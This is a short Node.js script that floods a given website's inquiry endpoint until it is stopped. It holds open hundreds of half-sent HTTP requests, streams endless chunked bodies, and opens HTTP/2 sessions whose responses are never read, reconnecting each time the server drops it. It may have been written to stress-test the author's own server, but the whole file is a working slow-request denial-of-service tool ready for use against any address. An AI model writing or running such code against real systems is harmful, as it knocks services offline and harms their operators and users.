// Attacks the inbox until this process is ended: node disturb.mjs <address of the site>
// Sends requests that never finish, HTTP/2 requests whose responses are never read, and endless bodies.
// Prints a line once all attacks have started.

import { connect } from "node:http2";
import { createConnection } from "node:net";

const address = new URL(process.argv[2]);

const HALF_SENT = 200;
const UNREAD = 20;
const ENDLESS = 8;
/** The delay in milliseconds before a disconnected client connects again. */
const PAUSE = 50;

const head = `POST /api/inquiries HTTP/1.1\r\nHost: ${address.host}\r\nContent-Type: application/json\r\n`;

/** Runs an attack on a connection, and again after each disconnect. */
function again(use) {
  const socket = createConnection({ host: address.hostname, port: Number(address.port) });
  // The server is expected to disconnect.
  socket.on("error", () => {});
  socket.on("close", () => setTimeout(() => again(use), PAUSE));
  socket.resume();
  use(socket);
}

function halfSent(socket) {
  socket.write(head + "Content-Le");
}

function endless(socket) {
  const chunk = `4000\r\n${"x".repeat(0x4000)}\r\n`;
  const more = () => {
    while (!socket.destroyed && socket.write(chunk));
  };
  socket.write(`${head}Transfer-Encoding: chunked\r\n\r\n`);
  socket.on("drain", more);
  more();
}

function unread() {
  const session = connect(address.origin, { settings: { initialWindowSize: 0 } });
  session.on("error", () => {});
  session.on("close", () => setTimeout(unread, PAUSE));
  for (let stream = 0; stream < 10; stream += 1) {
    session.request({ ":path": `${address.pathname}glossary.json` }).on("error", () => {});
  }
}

for (let number = 0; number < HALF_SENT; number += 1) again(halfSent);
for (let number = 0; number < ENDLESS; number += 1) again(endless);
for (let number = 0; number < UNREAD; number += 1) unread();
setTimeout(() => console.log("all of it is under way"), 1_000);
